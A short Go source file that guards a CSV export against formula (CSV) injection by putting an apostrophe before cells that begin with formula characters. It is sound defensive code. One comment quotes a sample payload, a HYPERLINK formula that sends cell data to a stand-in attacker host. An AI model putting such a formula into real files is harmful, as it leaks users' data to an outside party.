package export

import (
	"encoding/json"
	"strings"
)

// formulaStarts are the first characters that make Excel, LibreOffice and
// Google Sheets read a cell as a formula (or, for tab and carriage return,
// skip to one): a title such as =HYPERLINK("http://evil.example/?x="&A1)
// would run in the reader's spreadsheet with the reader's data.
const formulaStarts = "=+-@\t\r"

// csvCell is a value as one CSV cell. Text that a spreadsheet would read
// as a formula gets a leading apostrophe, OWASP's rule for CSV injection:
// spreadsheets show the apostrophe-prefixed text as text. Numbers
// (json.Number, what the API types as Int or Float) are written as the API
// answered them, so that a negative budget stays a number; booleans and
// empty values cannot start a formula.
func csvCell(v any) string {
	s := text(v)
	if _, number := v.(json.Number); number {
		return s
	}
	return neutralise(s)
}

// neutralise prefixes text that starts like a formula with an apostrophe.
func neutralise(s string) string {
	if s != "" && strings.IndexByte(formulaStarts, s[0]) >= 0 {
		return "'" + s
	}
	return s
}
